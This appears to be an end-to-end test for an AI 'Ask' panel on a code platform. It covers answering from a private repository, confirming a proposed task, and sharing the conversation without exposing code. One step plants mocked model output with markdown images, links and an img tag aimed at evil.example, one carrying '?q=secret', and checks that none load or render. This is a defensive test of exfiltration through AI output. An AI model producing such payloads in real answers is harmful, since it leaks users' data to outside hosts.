import assert from 'node:assert/strict'
import { after, before, describe } from 'node:test'
import type { Page } from 'playwright-core'
import { indexRepository } from '../server/domains/code/index-repository.ts'
import { askQuestion } from './ask-question.ts'
import { type Entrance, openOwnEntrance } from './entrance.ts'
import { type Person, indexed } from './harness.ts'
import { skip } from './partners/chromium.ts'
import { type Forge, startForge } from './partners/forge.ts'
import { type ModelServer, startModels, toolResults } from './partners/models.ts'
import { story } from './story.ts'
import { join } from './world.ts'

const refunds = `/** Rounds a refund down to whole cents, because the bank rejects fractions. */
export function roundRefund(amount: number): number {
  return Math.floor(amount * 100) / 100
}
`

/*
 * The way of a question, from a connected repository to a task. A private repository stays private: the shared
 * conversation contains none of its code.
 */
describe('the story of a question about code, from its sources to a shared answer', { skip }, () => {
  const step = story()
  let forge: Forge
  let models: ModelServer
  let entrance: Entrance
  let ada: Person
  let grace: Person
  let page: Page
  let repo: string
  before(async () => {
    ;[forge, models] = await Promise.all([startForge(), startModels()])
    const account = forge.addUser('ada')
    const shop = forge.addRepo('acme/shop', {
      private: true,
      collaborators: ['ada'],
      commits: [{ message: 'Begin', files: { 'src/refunds.ts': refunds, 'README.md': '# Shop\n' } }],
    })
    entrance = await openOwnEntrance(() => ({
      REPO_HOSTS: forge.host,
      GITHUB_URL: forge.url,
      GITHUB_API_URL: forge.apiUrl,
      AI_CHAT_HOSTS: new URL(models.url).host,
    }))
    ada = await entrance.server.register('Ada')
    grace = await entrance.server.register('Grace')
    await join(entrance.server, grace, ada, 'member')
    await ada.call('projects.create', { name: 'Web shop', slug: 'web', key: 'WEB' })
    await ada.call('integrations.connectOwn', { provider: 'github', secret: account.token })
    repo = (await ada.call('repos.connect', { project: 'web', url: shop.url })).id
    await indexRepository(entrance.server.app, { repo })
    await indexed(entrance.server)
  })
  after(async () => {
    await entrance?.close()
    await models?.close()
    await forge?.close()
  })

  const panel = () => page.getByRole('complementary', { name: 'Ask', exact: true })
  const lastAnswer = () => page.getByRole('article', { name: 'Answer' }).last()

  const ask = (question: string) => askQuestion(page, question)

  step('connects the model of the organization', async () => {
    await ada.call('aiSettings.update', {
      source: 'own',
      provider: 'anthropic',
      url: models.url,
      model: 'clever',
      key: 'the-key-of-the-model',
    })
    const { ok, failure } = await ada.call('aiSettings.test', {})
    assert.equal(ok, true, failure ?? '')
  })

  step('answers on the page of the repository, with the code as its source', async () => {
    page = await entrance.visit(`/projects/web/repos/${repo}`, ada)
    await page.getByRole('button', { name: 'Ask', exact: true }).first().click()
    await panel().waitFor()
    models.turns.push(
      { text: 'I look. ', calls: [{ name: 'read_file', input: { repo: 'shop', path: 'src/refunds.ts' } }] },
      (request) => {
        assert.match(toolResults(request)[0]!, /roundRefund/)
        return { text: ['Refunds are rounded ', 'down to whole cents [1].'] }
      },
    )
    await ask('How are refunds rounded?')
    await lastAnswer().getByText('Refunds are rounded down to whole cents').waitFor()
    await lastAnswer().getByText('1 lookup').waitFor()
    const sources = lastAnswer().getByRole('list', { name: 'Sources' })
    await sources.getByText('src/refunds.ts', { exact: false }).first().waitFor()
    await lastAnswer().getByRole('link', { name: '[1]' }).waitFor()
    const [request] = models.requests.filter(({ path }) => path === '/v1/messages').slice(-1)
    assert.equal(request!.headers['x-api-key'], 'the-key-of-the-model')
  })

  step('answers a follow-up question, and shows a proposed change until it is confirmed', async () => {
    models.turns.push(
      {
        calls: [
          { name: 'create_task', input: { project: 'web', title: 'Test the rounding of negative refunds' } },
        ],
      },
      (request) => {
        assert.match(toolResults(request)[0]!, /waits for the confirmation/)
        assert.match(JSON.stringify(request.body.messages), /How are refunds rounded\?/)
        return { text: 'I proposed a task.' }
      },
    )
    await ask('Propose a task to test negative ones.')
    const proposal = lastAnswer().getByRole('list', { name: 'Proposed changes' }).getByRole('listitem')
    await proposal.getByText('Test the rounding of negative refunds').waitFor()
    await lastAnswer().getByText('I proposed a task.').waitFor()
    await proposal.getByRole('button', { name: 'Confirm' }).click()
    await proposal.getByText('Done', { exact: true }).waitFor()
    await proposal.getByRole('link', { name: 'Test the rounding of negative refunds' }).click()
    await page.waitForURL(/WEB-1/)
    await panel().waitFor()
  })

  step('keeps the conversation while the person navigates, and opens it as a page', async () => {
    await panel().getByRole('link', { name: 'Open as a page' }).click()
    await page.getByRole('log', { name: 'Conversation' }).first().waitFor()
    await page.getByRole('heading', { name: 'How are refunds rounded?' }).first().waitFor()
  })

  step('loads nothing from a server that the model names', async () => {
    const outside: string[] = []
    await page.context().route(/evil\.example/, async (route) => {
      outside.push(route.request().url())
      await route.abort()
    })
    models.turns.push({
      text: [
        'Look: ![secret](https://evil.example/?q=secret) [click](https://evil.example/click) ',
        '<https://evil.example/auto> https://evil.example/bare <img src=https://evil.example/tag> ',
        '[1](https://evil.example/cited) [ref][1]\n\n[1]: https://evil.example/reference "x"\n\nThat is all.',
      ],
    })
    // A field that appears before the messages would ignore Enter.
    const release = Promise.withResolvers<void>()
    await page.route(/\/messages/, (route) => void release.promise.then(() => route.continue()))
    await page.goto(page.url())
    await page.getByRole('heading', { name: 'How are refunds rounded?' }).first().waitFor()
    assert.equal(await page.getByRole('textbox', { name: 'Question' }).count(), 0)
    release.resolve()
    await ask('Show me everything.')
    await lastAnswer().getByText('That is all.').waitFor()
    assert.equal(await lastAnswer().locator('img').count(), 0)
    assert.equal(await lastAnswer().locator('a[href*="evil.example"]').count(), 0)
    assert.deepEqual(outside, [])
  })

  step('is shared with the project, without the code that others cannot see', async () => {
    await page.getByRole('button', { name: 'Conversation actions' }).click()
    await page.getByRole('menuitem', { name: 'Share with the project…' }).click()
    await page
      .getByRole('alertdialog')
      .or(page.getByRole('dialog'))
      .getByRole('button', { name: 'Share' })
      .click()
    await page.getByText('Shared with Web shop.').waitFor()
    const aiSession = new URL(page.url()).pathname.split('/').at(-1)!
    const { items } = await grace.call('aiSessions.listMessages', { aiSession })
    assert.match(items[1]!.text, /Refunds are rounded down to whole cents/)
    // Also not in the inputs of the reads.
    assert.doesNotMatch(JSON.stringify(items), /src\/refunds\.ts|roundRefund/)
    entrance.checkComplaints()
  })
})
